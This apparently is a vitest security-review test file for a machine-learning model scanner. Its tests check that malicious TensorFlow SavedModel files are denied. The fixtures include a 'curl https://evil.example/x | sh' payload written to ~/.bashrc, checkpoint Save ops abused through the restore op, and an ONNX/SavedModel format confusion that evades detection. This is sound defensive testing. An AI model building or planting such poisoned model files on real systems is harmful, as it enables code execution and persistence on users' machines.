/**
 * Security review, round 2: TensorFlow graphs (node/scan/inspect/savedmodel.ts, detect.ts,
 * coverage.ts). Each test failed before its fix; each was a finding.
 */
import { describe, expect, test } from 'vitest';
import { pb } from '../fixtures/scan/builders.js';
import { TF1_SAVER, tf1Graph, tfMetaGraph, writeSavedModel } from '../fixtures/scan/tf-builders.js';
import { judge, seen } from './scan-review-support.js';

/** The same graph a saved_model.pb would hold, in protobuf text format. */
const PBTXT = `saved_model_schema_version: 1
meta_graphs {
  meta_info_def { tags: "serve" tensorflow_version: "2.15.0" }
  graph_def {
    node { name: "path" op: "Const" attr { key: "dtype" value { type: DT_STRING } } attr { key: "value" value { tensor { dtype: DT_STRING tensor_shape {} string_val: "/home/user/.bashrc" } } } }
    node { name: "body" op: "Const" attr { key: "dtype" value { type: DT_STRING } } attr { key: "value" value { tensor { dtype: DT_STRING tensor_shape {} string_val: "curl https://evil.example/x | sh\\n" } } } }
    node { name: "w" op: "WriteFile" input: "path" input: "body" }
    node { name: "init" op: "NoOp" input: "^w" }
    node { name: "py" op: "PyFunc" attr { key: "token" value { s: "pyfunc_0" } } }
  }
  collection_def { key: "saved_model_main_op" value { node_list { value: "init" } } }
}
`;

describe('scan review 2: SavedModel files the scanner does not recognise', () => {
  /**
   * FINDING TF1 (high: allowed). tensorflow/python/saved_model/loader_impl.py parse_saved_model:
   * when `saved_model.pb` does not exist, `saved_model.pbtxt` is read with
   * `text_format.Parse(...)` into the same SavedModel proto (the C++ reader,
   * tensorflow/cc/saved_model/reader.cc, does the same). The scanner has no reader for protobuf
   * text, so the file is `unknown`; `.pbtxt` is not in coverage.ts CODE_NAME, so it is not
   * code-capable and the gate lets it pass. Here the main op (collection
   * `saved_model_main_op`, run by SavedModelLoader.run_init_ops on load) writes ~/.bashrc.
   */
  test('TF1 saved_model.pbtxt with WriteFile in its main op is denied', async () => {
    const v = await judge('tf1-pbtxt', {
      'saved_model.pbtxt': Buffer.from(PBTXT),
      'variables/variables.index': Buffer.alloc(0),
    });
    expect(v.denials, seen(v)).not.toEqual([]);
  });

  /**
   * FINDING TF1b (high: allowed). tf.train.import_meta_graph → meta_graph.read_meta_graph_file:
   * tries `ParseFromString`, and on failure `text_format.Merge(...)`: a text MetaGraphDef under
   * the usual `model.ckpt.meta` name loads the same. `.meta` is not a CODE_NAME either.
   */
  test('TF1b a text-format model.ckpt.meta is denied', async () => {
    const meta = PBTXT.replace(/^saved_model_schema_version: 1\nmeta_graphs \{\n/, '').replace(/\}\n$/, '');
    const v = await judge('tf1b-meta-text', { 'model.ckpt.meta': Buffer.from(meta) });
    expect(v.denials, seen(v)).not.toEqual([]);
  });

  /**
   * FINDING TF2 (critical: signed clean). detect.ts asks isOnnx before isSavedModel, and isOnnx
   * only needs ir_version (field 1, a varint 1–100) first and a `graph` (field 7) among the
   * first fields. A SavedModel's first field is saved_model_schema_version = 1: `08 01`, the
   * same bytes as ONNX's ir_version 1. Add a field 7 (SavedModel has none: TF's protobuf parser
   * keeps it as an unknown field and ignores it) holding a harmless ONNX graph, and the file is
   * inspected as ONNX: the real MetaGraphDef (field 2) is ONNX's `producer_name` string to the
   * ONNX walker, and never read. TF (loader_impl.parse_saved_model: ParseFromString) loads the
   * meta graph, whose main op here runs WriteFile.
   */
  test('TF2 a saved_model.pb with an ONNX-looking field 7 is not read as ONNX', async () => {
    const real = writeSavedModel([tfMetaGraph({ graph: tf1Graph([
      { name: 'w', op: 'WriteFile', inputs: ['path', 'body'] },
      { name: 'py', op: 'PyFunc', attrs: { token: { s: 'pyfunc_0' } } },
    ]), saver: TF1_SAVER })]);
    // `08 01` (version 1, also ONNX ir_version 1), then field 7: an ONNX graph with one Relu.
    const onnxGraph = Buffer.concat([pb.bytes(1, Buffer.concat([pb.bytes(1, 'X'), pb.bytes(2, 'Y'), pb.bytes(4, 'Relu')])), pb.bytes(2, 'g')]);
    const confused = Buffer.concat([real.subarray(0, 2), pb.bytes(7, onnxGraph), real.subarray(2)]);
    expect(confused.subarray(0, 2)).toEqual(Buffer.from([0x08, 0x01]));
    const v = await judge('tf2-onnx-confusion', { 'saved_model.pb': confused, 'variables/variables.index': Buffer.alloc(0) });
    expect(v.signedClean, seen(v)).toEqual([]);
    expect(v.denials, seen(v)).not.toEqual([]);
  });
});

describe('scan review 2: the SaverDef whitelists what it names', () => {
  /**
   * FINDING TF3 (high: allowed, signed clean). Checkpoint ops are not reported inside the saver,
   * and "inside" is every node under the restore op's name scope (`save/` for
   * `save/restore_all`). SavedModelLoader.load → restore_variables → Saver.restore runs
   * `sess.run(saver_def.restore_op_name, {filename_tensor_name: variables_path})`
   * (tensorflow/python/training/saver.py), and load_v1_in_v2 runs the same op. So the restore op
   * may depend on a `Save` (V1) node under `save/` whose filename is a Const: SaveOp
   * (tensorflow/core/kernels/save_op.cc → SaveTensors) writes a checkpoint table, with
   * attacker-chosen tensor names and string values, to exactly that path (~/.bashrc below).
   * The saver's own save ops never take a constant filename, and the restore op never depends
   * on a save op.
   */
  test('TF3 a Save op with a constant path, run by the restore op, is reported', async () => {
    const graph = tf1Graph([
      { name: 'save/evil/path', op: 'Const', attrs: { value: { s: '/home/user/.bashrc' } } },
      { name: 'save/evil/names', op: 'Const' },
      { name: 'save/evil/data', op: 'Const' },
      { name: 'save/evil', op: 'Save', inputs: ['save/evil/path', 'save/evil/names', 'save/evil/data'] },
    ]);
    // save/restore_all now also waits for save/evil (a control input).
    const marker = Buffer.from('save/restore_all');
    const at = graph.indexOf(marker);
    expect(at).toBeGreaterThan(0);
    const patched = writeSavedModel([tfMetaGraph({ graph: graphWithRestoreDeps(graph), saver: TF1_SAVER })]);
    const v = await judge('tf3-saver-save', { 'saved_model.pb': patched, 'variables/variables.index': Buffer.alloc(0) });
    expect(v.signedClean, seen(v)).toEqual([]);
    expect(v.denials, seen(v)).not.toEqual([]);
  });
});

describe('scan review 2: a SaveV2 the restore op depends on', () => {
  /** The V2 form of TF3: after V1 ops were refused, the same trick with SaveV2 (a known gap until the restore op's dependencies were read). */
  test('TF3b a SaveV2 with a constant path, run by the restore op, is reported; the saver\'s own SaveV2 is not', async () => {
    const graph = tf1Graph([
      { name: 'save/evil/path', op: 'Const', attrs: { value: { s: '/home/user/.bashrc' } } },
      { name: 'save/evil/names', op: 'Const' },
      { name: 'save/evil/slices', op: 'Const' },
      { name: 'save/evil', op: 'SaveV2', inputs: ['save/evil/path', 'save/evil/names', 'save/evil/slices', 'w'] },
    ]);
    const patched = writeSavedModel([tfMetaGraph({ graph: graphWithRestoreDeps(graph), saver: TF1_SAVER })]);
    const v = await judge('tf3b-saver-savev2', { 'saved_model.pb': patched, 'variables/variables.index': Buffer.alloc(0) });
    expect(v.signedClean, seen(v)).toEqual([]);
    expect(v.denials.join('\n'), seen(v)).toMatch(/save\/evil.*restore op/);
    expect(v.denials.join('\n')).not.toMatch(/save\/SaveV2\b/);
  });
});

/** tf1Graph's nodes with `^save/evil` added to save/restore_all's inputs (rebuilt from the node list). */
function graphWithRestoreDeps(graph: Buffer): Buffer {
  // Re-encode: walk GraphDef fields, and for the node named save/restore_all append an input.
  const out: Buffer[] = [];
  let p = 0;
  const varint = (at: number): [number, number] => {
    let v = 0; let m = 1; let i = 0;
    for (;;) { const c = graph[at + i] as number; v += (c & 0x7f) * m; m *= 128; i++; if ((c & 0x80) === 0) return [v, i]; }
  };
  while (p < graph.length) {
    const [tag, tl] = varint(p);
    const [len, ll] = varint(p + tl);
    const body = graph.subarray(p + tl + ll, p + tl + ll + len);
    if (tag === 0x0a && body.includes(Buffer.from('save/restore_all'))) out.push(pb.bytes(1, Buffer.concat([body, pb.bytes(3, '^save/evil')])));
    else out.push(graph.subarray(p, p + tl + ll + len));
    p += tl + ll + len;
  }
  return Buffer.concat(out);
}
